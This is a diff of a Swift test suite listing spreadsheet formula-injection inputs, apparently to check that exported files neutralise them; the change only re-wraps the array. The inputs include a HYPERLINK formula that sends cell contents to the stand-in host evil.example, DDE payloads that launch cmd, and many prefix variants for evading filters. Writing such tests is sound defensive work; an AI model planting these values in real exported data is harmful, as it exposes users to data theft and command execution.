@@ -10,8 +10,10 @@ import Testing
 /// Text that a spreadsheet would run as a formula when somebody opens a file that we made.
 @Suite(.serialized) struct SpreadsheetFormulaTests {
     static let formulas = [
-        "=1+1", "=HYPERLINK(\"https://evil.example?x=\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", "'=1+1", "=1+1\",=2+2", "a,=1+1", "a\n=1+1", "a;=1+1", "\u{FEFF}=1+1", "＝1+1", "＋1", "－1", "＠x",
+        "=1+1", "=HYPERLINK(\"https://evil.example?x=\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", "'=1+1", "=1+1\",=2+2", "a,=1+1", "a\n=1+1", "a;=1+1",
+        "\u{FEFF}=1+1", "＝1+1", "＋1", "－1", "＠x",
         "\u{A0}=1+1", "\u{200B}=1",
     ]
 
